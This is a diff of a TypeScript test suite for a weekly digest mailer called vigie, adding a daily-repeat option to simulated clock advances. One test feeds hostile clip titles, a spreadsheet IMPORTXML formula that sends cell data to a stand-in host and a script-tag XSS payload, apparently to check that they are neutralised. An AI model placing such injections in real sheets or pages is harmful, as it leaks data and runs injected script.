@@ -7,6 +7,9 @@ const HOUR = 3_600_000;
 /** Monday 30 November 2026, 9:00 in Paris: after the letter's hour. */
 const MONDAY = new Date('2026-11-30T08:00:00Z');
 
+/** The hourly reading runs once a day on the way: a week of it adds nothing here. */
+const DAILY = { repeats: 'daily' as const };
+
 let items: { guid: string; title: string; date: string }[];
 let answer: { status: number; body?: string };
 let asked: IncomingMessage[];
@@ -127,7 +130,7 @@ describe('the letter', () => {
       aClip({ title: '=IMPORTXML("https://x.test/?"&A1)' }),
       aClip({ title: '<script>alert(1)</script>' }),
     );
-    await vigie.host.clock.advanceTo(MONDAY);
+    await vigie.host.clock.advanceTo(MONDAY, DAILY);
     const letters = await vigie.host.outbox();
     expect(letters.map((letter) => [letter.to].flat().join()).sort()).toEqual(['marie@example.org', OWNER]);
     for (const { html, text, subject } of letters) {
@@ -147,7 +150,7 @@ describe('the letter', () => {
   test('a trigger that runs twice, a menu that is clicked again: nobody gets it twice', async () => {
     const { token } = await vigie.pairedMember('Marie');
     await vigie.saveClips(token, aClip());
-    await vigie.host.clock.advanceTo(MONDAY);
+    await vigie.host.clock.advanceTo(MONDAY, { ...DAILY, mishap: () => 'twice' });
     expect(await vigie.host.outbox()).toHaveLength(2);
     await Promise.all([vigie.run('sendDigestNow'), vigie.run('sendDigestNow'), vigie.run('sendWeeklyDigest')]);
     expect(await vigie.host.outbox()).toHaveLength(2);
@@ -157,7 +160,7 @@ describe('the letter', () => {
     const { token } = await vigie.pairedMember('Marie');
     await vigie.saveClips(token, aClip());
     vigie.host.faults.add({ service: 'MailApp', method: 'sendEmail', at: 'after', when: 1, do: 'kill' });
-    await vigie.host.clock.advanceTo(MONDAY);
+    await vigie.host.clock.advanceTo(MONDAY, DAILY);
     vigie.host.faults.clear();
     const sent = (await vigie.host.outbox()).length;
     await vigie.run('sendDigestNow');
@@ -174,7 +177,7 @@ describe('the letter', () => {
       method: 'sendEmail',
       do: { throw: 'Service invoked too many times for one day: email.' },
     });
-    await vigie.host.clock.advanceTo(MONDAY);
+    await vigie.host.clock.advanceTo(MONDAY, DAILY);
     vigie.host.faults.clear();
     expect(vigie.rows('Envois').map((row) => row.État)).toEqual(['non envoyé', 'non envoyé']);
     expect(await vigie.run('sendDigestNow')).toMatchObject({ sent: 2, failed: 0 });
@@ -183,12 +186,12 @@ describe('the letter', () => {
 
   test('a quiet week sends nothing and says so; the third one sends a word', async () => {
     await vigie.run('peopleDeleteRow', ['Flux', 2]);
-    await vigie.host.clock.advanceTo(MONDAY);
+    await vigie.host.clock.advanceTo(MONDAY, DAILY);
     expect(await vigie.host.outbox()).toEqual([]);
     expect(vigie.rows('Envois').map((row) => row.État)).toEqual(['semaine calme']);
-    await vigie.host.clock.advanceBy(7 * 24 * HOUR);
+    await vigie.host.clock.advanceBy(7 * 24 * HOUR, DAILY);
     expect(await vigie.host.outbox()).toEqual([]);
-    await vigie.host.clock.advanceBy(7 * 24 * HOUR);
+    await vigie.host.clock.advanceBy(7 * 24 * HOUR, DAILY);
     expect(await vigie.host.outbox()).toHaveLength(1);
   });
 
